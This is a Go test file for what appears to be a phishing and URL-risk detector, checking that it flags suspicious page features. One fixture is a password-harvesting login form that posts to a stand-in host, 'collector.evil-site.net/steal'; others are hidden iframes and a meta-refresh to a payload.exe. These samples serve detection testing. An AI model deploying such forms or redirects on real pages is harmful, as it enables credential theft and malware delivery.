package evidence_test

import (
	"net/http"
	"testing"

	"github.com/stretchr/testify/require"

	"urlrisk/internal/evidence"
	"urlrisk/internal/probe"
	"urlrisk/pkg/logger"
)

func TestMain(m *testing.M) {
	logger.Setup(logger.DevelopmentEnvironment)
	m.Run()
}

func page(finalURL, body string, header http.Header) *probe.Page {
	if header == nil {
		header = http.Header{}
	}

	return &probe.Page{
		FinalURL:   finalURL,
		StatusCode: http.StatusOK,
		Header:     header,
		Body:       []byte(body),
	}
}

func TestSummarizePage_LoginForm(t *testing.T) {
	body := `<html><head><title>Sign in</title></head><body>
		<form action="https://collector.evil-site.net/steal" method="post">
			<input type="text" name="user">
			<input type="password" name="pass">
		</form>
	</body></html>`

	s, err := evidence.SummarizePage(page("https://accounts.example.com/login", body, nil))
	require.NoError(t, err)

	require.Equal(t, "Sign in", s.Title)
	require.True(t, s.HasLoginForm)
	require.Len(t, s.Forms, 1)
	require.Equal(t, "POST", s.Forms[0].Method)
	require.True(t, s.Forms[0].HasPassword)
	require.True(t, s.Forms[0].ExternalOrigin)
	require.Contains(t, s.ExternalDomains, "evil-site.net")
}

func TestSummarizePage_RelativeFormStaysInternal(t *testing.T) {
	body := `<form action="/session" method="POST"><input type="password"></form>`

	s, err := evidence.SummarizePage(page("https://example.com/login", body, nil))
	require.NoError(t, err)
	require.Len(t, s.Forms, 1)
	require.False(t, s.Forms[0].ExternalOrigin)
	require.Equal(t, "https://example.com/session", s.Forms[0].Action)
	require.Empty(t, s.ExternalDomains)
}

func TestSummarizePage_ScriptsAndLinks(t *testing.T) {
	body := `<html><body>
		<script src="https://cdn.thirdparty.io/lib.js"></script>
		<script>var x = 1;</script>
		<a href="https://partner.org/page">partner</a>
		<a href="mailto:hi@example.com">mail</a>
		<img src="https://images.somewhere.co.uk/logo.png">
	</body></html>`

	s, err := evidence.SummarizePage(page("https://example.com/", body, nil))
	require.NoError(t, err)

	require.Equal(t, []string{"https://cdn.thirdparty.io/lib.js"}, s.ScriptSrcs)
	require.Contains(t, s.InlineScript, "var x = 1;")
	require.Equal(t, []string{"https://partner.org/page"}, s.Links)
	require.ElementsMatch(t,
		[]string{"thirdparty.io", "partner.org", "somewhere.co.uk"},
		s.ExternalDomains)
}

func TestSummarizePage_MetaRefreshAutoDownload(t *testing.T) {
	body := `<meta http-equiv="refresh" content="0;url=https://example.com/payload.exe">`

	s, err := evidence.SummarizePage(page("https://example.com/", body, nil))
	require.NoError(t, err)
	require.Equal(t, "https://example.com/payload.exe", s.MetaRefresh)
	require.True(t, s.AutoDownload)
}

func TestSummarizePage_HiddenIframes(t *testing.T) {
	body := `<iframe src="https://a.test/" width="0" height="0"></iframe>
		<iframe src="https://b.test/" style="display:none"></iframe>
		<iframe src="https://c.test/" width="600" height="400"></iframe>`

	s, err := evidence.SummarizePage(page("https://example.com/", body, nil))
	require.NoError(t, err)
	require.Equal(t, 2, s.HiddenIframes)
}

func TestSummarizePage_ContentDispositionAttachment(t *testing.T) {
	h := http.Header{}
	h.Set("Content-Disposition", `attachment; filename="invoice.exe"`)

	s, err := evidence.SummarizePage(page("https://example.com/", "<html></html>", h))
	require.NoError(t, err)
	require.True(t, s.AutoDownload)
}

func TestSummarizePage_VisibleText(t *testing.T) {
	body := `<body><h1>Verify   your
		account</h1>
		<script>hidden()</script>
		<p>now</p></body>`

	s, err := evidence.SummarizePage(page("https://example.com/", body, nil))
	require.NoError(t, err)
	require.Equal(t, "Verify your account now", s.Text)
}

func TestDNSRecordsHealthScore(t *testing.T) {
	full := &evidence.DNSRecords{
		A:     []string{"192.0.2.1"},
		MX:    []string{"mail.example.com"},
		NS:    []string{"ns1.example.com"},
		SPF:   "v=spf1 -all",
		DMARC: "v=DMARC1; p=reject",
	}
	require.InDelta(t, 1.0, full.HealthScore(), 1e-9)

	bare := &evidence.DNSRecords{A: []string{"192.0.2.1"}}
	require.InDelta(t, 0.4, bare.HealthScore(), 1e-9)

	var missing *evidence.DNSRecords
	require.Zero(t, missing.HealthScore())
}
